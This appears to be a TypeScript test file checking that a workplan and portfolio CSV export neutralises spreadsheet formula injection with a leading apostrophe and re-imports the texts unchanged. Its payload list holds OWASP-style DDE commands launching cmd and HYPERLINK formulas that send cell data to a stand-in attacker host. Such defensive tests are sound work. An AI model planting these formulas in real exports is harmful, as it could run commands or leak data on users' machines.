// The csv export never hands a spreadsheet a formula written by a user
// (OWASP CSV injection), and reads its own neutralised cells back as written.
import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { call, createTestApp, managerOfNewProject, type Session, type TestContext } from "./helpers/app.ts";
import { importPlan } from "./helpers/imports.ts";
import { organisations, projects, workplans } from "../src/db/schema.ts";

/** From OWASP's CSV injection page and its usual companions: DDE, hyperlinks, full-width signs, tab and CR first. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://attaquant.example/?\"&A1;\"Cliquez ici\")",
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  "=1+1;=2+2",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
];

const nextPayload = (i: number) => PAYLOADS[(i + 1) % PAYLOADS.length] ?? "";

describe("csv export and formula injection", () => {
  let ctx: TestContext;
  let manager: Session;
  let projectId: string;
  let planId: string;
  beforeAll(async () => {
    ctx = await createTestApp("pglite");
    ({ session: manager, projectId } = await managerOfNewProject(ctx));
    const plan = await call(ctx.app, manager, { method: "POST", url: `/api/v1/projects/${projectId}/workplans`, payload: { year: 2027 } });
    planId = plan.json().id;
    for (const [i, payload] of PAYLOADS.entries()) {
      const created = await call(ctx.app, manager, {
        method: "POST",
        url: `/api/v1/workplans/${planId}/activities`,
        payload: {
          code: `A${i + 1}`,
          title: `${payload}`,
          // Each line carries the next payload: a line named as its activity is not written twice on the activity's row.
          budgetLines: [{ description: nextPayload(i), quantity: "1", unitCost: "5", amount: null }],
        },
      });
      expect(created.statusCode, payload).toBe(201);
    }
  });
  afterAll(() => ctx.close());

  const exportCsv = async () => {
    const response = await call(ctx.app, manager, { method: "GET", url: `/api/v1/workplans/${planId}/export?format=csv` });
    expect(response.statusCode).toBe(200);
    return response.rawPayload;
  };

  it("writes every payload with a leading apostrophe, and numbers as numbers", async () => {
    const rows = parse(await exportCsv(), { delimiter: ";", bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    // The API trims texts: a payload's leading tab or CR does not reach the plan.
    for (const payload of PAYLOADS) {
      expect(cells.filter((c) => c === payload.trim()).length, payload).toBe(0);
      expect(cells.filter((c) => c === `'${payload.trim()}`).length, payload).toBeGreaterThanOrEqual(2);
    }
    // No cell at all starts as a formula would.
    expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);
    // The unit costs are plain numbers, without an apostrophe.
    const line = rows.find((r) => r.includes("'+cmd|' /C calc'!A0") && r.includes("5")) ?? [];
    expect(line.filter((c) => c === "5").length).toBeGreaterThanOrEqual(1);
  });

  it("reads its own csv back with the texts as the users wrote them", async () => {
    const { workplanId } = await importPlan(ctx.app, manager, projectId, { name: "plan.csv", bytes: await exportCsv() }, { year: "2027" });
    const page = await call(ctx.app, manager, { method: "GET", url: `/api/v1/workplans/${workplanId}/activities?pageSize=100` });
    const items = page.json().items as { title: string; budgetLines: { description: string | null; unitCost: string }[] }[];
    expect(items.map((a) => a.title)).toEqual(PAYLOADS.map((p) => p.trim()));
    expect(items.map((a) => a.budgetLines[0]?.description)).toEqual(PAYLOADS.map((_, i) => nextPayload(i).trim()));
    expect(items.map((a) => a.budgetLines[0]?.unitCost)).toEqual(PAYLOADS.map(() => "5"));
  });
});

describe("portfolio csv and formula injection", () => {
  let ctx: TestContext;
  let manager: Session;
  beforeAll(async () => {
    ctx = await createTestApp("pglite");
    const world = await managerOfNewProject(ctx);
    manager = world.session;
    const plan = await call(ctx.app, manager, { method: "POST", url: `/api/v1/projects/${world.projectId}/workplans`, payload: { year: 2027 } });
    const planId = plan.json().id;
    for (const [i, payload] of PAYLOADS.entries()) {
      const created = await call(ctx.app, manager, {
        method: "POST",
        url: `/api/v1/workplans/${planId}/activities`,
        payload: {
          code: `A${i + 1}`,
          title: payload,
          budgetLines: [{ description: nextPayload(i), accountCode: "-1+1", fundCode: "=1", quantity: "1", unitCost: "5", amount: null }],
        },
      });
      expect(created.statusCode, payload).toBe(201);
    }
    // In force once approved; the project and its organisation carry payloads of their own.
    const { db } = ctx.database;
    await db.update(workplans).set({ status: "approved" }).where(eq(workplans.id, planId));
    await db.update(projects).set({ title: "=HYPERLINK(\"http://attaquant.example\")", code: "@INJ-1" }).where(eq(projects.id, world.projectId));
    await db.update(organisations).set({ name: "+cmd|' /C calc'!A0" }).where(eq(organisations.id, world.organisationId));
  });
  afterAll(() => ctx.close());

  it("writes every text a spreadsheet would run with a leading apostrophe: titles, names and codes; numbers as they are", async () => {
    const response = await call(ctx.app, manager, { method: "GET", url: "/api/v1/portfolio/export.csv?year=2027" });
    expect(response.statusCode).toBe(200);
    const [, ...rows] = parse(response.rawPayload, { delimiter: ";", bom: true }) as string[][];
    expect(rows).toHaveLength(PAYLOADS.length);
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);
    // Each payload is one activity's title and another's line (the API trims a leading tab or CR: two payloads meet).
    const texts = rows.flatMap((r) => r.slice(8, 10));
    for (const payload of PAYLOADS) expect(texts.filter((c) => c === `'${payload.trim()}`).length, payload).toBeGreaterThanOrEqual(2);
    for (const row of rows) {
      expect(row.slice(0, 3)).toEqual(["'+cmd|' /C calc'!A0", "'@INJ-1", "'=HYPERLINK(\"http://attaquant.example\")"]);
      expect(row.slice(10, 12)).toEqual(["'-1+1", "'=1"]);
      // Quantity, unit cost and amount: plain numbers.
      expect(row.slice(12, 15)).toEqual(["1", "5", "5"]);
    }
  });
});
